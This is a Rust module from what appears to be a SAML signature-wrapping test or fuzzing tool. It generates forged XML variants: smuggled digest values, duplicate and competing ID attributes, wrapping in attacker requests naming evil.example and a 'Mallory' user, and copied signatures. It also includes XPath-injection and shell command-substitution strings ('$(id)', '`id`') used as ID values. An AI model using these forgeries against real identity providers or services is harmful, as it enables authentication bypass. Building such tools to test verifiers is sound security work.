//! A011, A023 to A026 and A030: digests, identifiers and messages that compete.

use super::attacker::digest;
use super::canonical::canonical;
use super::forge::{Id, MALLORY, around, forged};
use super::names::{DS, SAML, SAMLP, SHA256};
use super::tree::{Element, Node};
use super::{Engine, Signed};

pub(super) fn apply(engine: &mut Engine) {
    for s in engine.signatures.clone() {
        smuggled_digest(engine, &s);
        duplicate_ids(engine, &s);
        competing_ids(engine, &s);
        injected_ids(engine, &s);
        captured(engine, &s);
        stale(engine, &s);
    }
}

/// A second DigestValue, right for what is forged, where a search from the root finds it first.
fn smuggled_digest(engine: &mut Engine, s: &Signed) {
    let mut forged = forged(&engine.tree.element(&s.target).clone(), Id::Same);
    let mut octets = engine.tree.clone();
    octets.replace(&s.target, forged.clone());
    let right = digest(SHA256, canonical(&octets, &s.target, None).as_bytes());
    let value = format!("<ds:DigestValue xmlns:ds=\"{DS}\">{right}</ds:DigestValue>");
    let value = Element::parse(&value);
    let at =
        s.at.last()
            .copied()
            .unwrap_or_default()
            .min(forged.children.len());
    let signature = engine.tree.element(&s.at).clone();
    forged.children.insert(at, signature.into());
    for slot in ["samlp:StatusDetail", "samlp:Extensions", "saml:Advice"] {
        let held = around(slot, "", vec![value.clone().into()]);
        engine.edit("A011", format!("second digest in {slot} in front"), |t| {
            t.replace(&s.target, forged.clone());
            let root = [&t.root()[..], &[0][..]].concat();
            t.insert(&root, held);
        });
    }
    let status = engine.first(&[], SAMLP, "StatusCode");
    if let Some(status) = status {
        let held = around("samlp:StatusDetail", "", vec![value.clone().into()]);
        engine.edit("A011", "second digest in the status, content forged", |t| {
            t.replace(&s.target, forged.clone());
            if !status.starts_with(&s.target) {
                t.insert_after(&status, held.clone());
            }
        });
        engine.edit("A011", "second digest in the status", |t| {
            t.insert_after(&status, held)
        });
    }
    engine.edit("A011", "second digest as the first of the signature", |t| {
        t.replace(&s.target, forged.clone());
        let in_signature = [&s.target[..], &[at, 0][..]].concat();
        t.insert(&in_signature, value);
    });
}

fn duplicate_ids(engine: &mut Engine, s: &Signed) {
    let first = [&s.target[..], &[0][..]].concat();
    for name in ["ID", "Id", "id", "xml:id", "AssertionID"] {
        let element = Element::parse(&format!("<x {name}=\"{}\"/>", s.id));
        let root = [&engine.tree.root()[..], &[0][..]].concat();
        for (place, path) in [("in the root", &root), ("in the signed element", &first)] {
            engine.edit("A023", format!("a second {name} {place}"), |t| {
                t.insert(path, element.clone());
            });
        }
        engine.edit("A023", format!("a second {name} on the signature"), |t| {
            t.element_mut(&s.at).set(name, &s.id);
        });
    }
    let copy = engine.tree.element(&s.target).clone();
    engine.edit("A023", "the signed element twice", |t| {
        t.insert_after(&s.target, copy)
    });
}

fn competing_ids(engine: &mut Engine, s: &Signed) {
    for name in [
        "Id",
        "id",
        "iD",
        "xml:id",
        "samlp:ID",
        "saml:ID",
        "AssertionID",
    ] {
        for value in ["_evil", &s.id] {
            for first in [true, false] {
                let what = format!("{name}={value}, first: {first}");
                engine.edit("A024", what, |t| {
                    let element = t.element_mut(&s.target);
                    for (prefix, namespace) in [("saml", SAML), ("samlp", SAMLP)] {
                        if name.starts_with(&format!("{prefix}:")) {
                            element.set(&format!("xmlns:{prefix}"), namespace);
                        }
                    }
                    match first {
                        true => element.set_first(name, value),
                        false => element.set(name, value),
                    }
                });
            }
        }
        engine.edit("A024", format!("{name} instead of ID"), |t| {
            let element = t.element_mut(&s.target);
            element.unset("ID");
            element.set(name, &s.id);
        });
    }
    let value = s.id.clone();
    engine.edit("A024", "ID twice", |t| {
        let element = t.element_mut(&s.target);
        let own = element.attributes.iter().find(|a| a.name == "ID").cloned();
        element.attributes.extend(own);
    });
    engine.edit("A024", "ID on the forged wrapper only", |t| {
        let inner = t.element(&s.target).clone();
        let mut outer = forged(&inner, Id::New);
        outer.set("ID", &value);
        outer.children.push(inner.into());
        t.replace(&s.target, outer);
    });
}

/// IDs that mean something to XPath or a shell, in the element and in the reference.
fn injected_ids(engine: &mut Engine, s: &Signed) {
    let reference = engine.first(&s.at, DS, "Reference");
    let Some(reference) = reference else { return };
    for id in [
        "x'] | //*['",
        "x&quot;] | //*[&quot;",
        "' or '1'='1",
        "`id`",
        "$(id)",
        "*",
        "",
        "xpointer(/)",
        "xpointer(id('x'))",
        "_a&#10;",
        "&#32;",
        "1a",
        "a:b",
    ] {
        engine.edit("A025", format!("ID and URI {id}"), |t| {
            t.element_mut(&s.target).set("ID", id);
            t.element_mut(&reference).set("URI", &format!("#{id}"));
        });
        engine.edit("A025", format!("URI {id}"), |t| {
            t.element_mut(&reference).set("URI", &format!("#{id}"));
        });
    }
}

/// The signed element inside a request of the attacker.
fn captured(engine: &mut Engine, s: &Signed) {
    let original = engine.tree.detached(&s.target);
    let signature = engine.tree.detached(&s.at);
    for name in [
        "samlp:LogoutRequest",
        "samlp:AuthnRequest",
        "samlp:Response",
        "saml:Assertion",
    ] {
        let own = " ID=\"_evil\" Version=\"2.0\" IssueInstant=\"2026-01-31T12:00:00Z\"";
        let issuer = || Element::parse("<saml:Issuer>https://evil.example</saml:Issuer>");
        let person = || Element::parse(&format!("<saml:NameID>{MALLORY}</saml:NameID>"));
        let held = || around("samlp:Extensions", "", vec![original.clone().into()]);
        let mut request = |what: &str, children: Vec<Node>| {
            engine.edit("A026", format!("{name} with {what}"), |t| {
                t.nodes = vec![around(name, own, children).into()];
            });
        };
        let children = vec![issuer().into(), held().into(), person().into()];
        request("it in extensions", children);
        let children = vec![issuer().into(), original.clone().into(), person().into()];
        request("it as a child", children);
        let (signature, held) = (signature.clone().into(), held().into());
        let children = vec![issuer().into(), signature, held, person().into()];
        request("its signature and it", children);
    }
}

/// Of two signatures one does not hold, or the second one is a copy.
fn stale(engine: &mut Engine, s: &Signed) {
    for (name, change) in [("DigestValue", "AAAA"), ("SignatureValue", "AAAA")] {
        if let Some(path) = engine.first(&s.at, DS, name) {
            engine.edit("A030", format!("{name} of one signature is wrong"), |t| {
                t.element_mut(&path).set_text(change);
            });
            engine.edit(
                "A030",
                format!("{name} of one signature ends otherwise"),
                |t| {
                    let element = t.element_mut(&path);
                    let text = element.only_text().unwrap_or_default().trim().to_owned();
                    let rest = text.strip_prefix('A').map(|r| format!("B{r}"));
                    element.set_text(
                        &rest.unwrap_or_else(|| format!("A{}", text.get(1..).unwrap_or_default())),
                    );
                },
            );
        }
    }
    let signature = engine.tree.element(&s.at).clone();
    engine.edit("A030", "the same signature twice", |t| {
        t.insert_after(&s.at, signature.clone())
    });
    for other in engine.elements.clone() {
        let inside = other.path.starts_with(&s.at);
        if !inside && other.path != s.parent && other.local == "Assertion" {
            let first = [&other.path[..], &[1][..]].concat();
            engine.edit("A030", "the signature again in an assertion", |t| {
                t.insert(&first, signature.clone());
            });
        }
    }
    if s.parent.len() > 1 {
        let root = [&engine.tree.root()[..], &[1][..]].concat();
        engine.edit("A030", "the signature again in the root", |t| {
            t.insert(&root, signature)
        });
    }
}
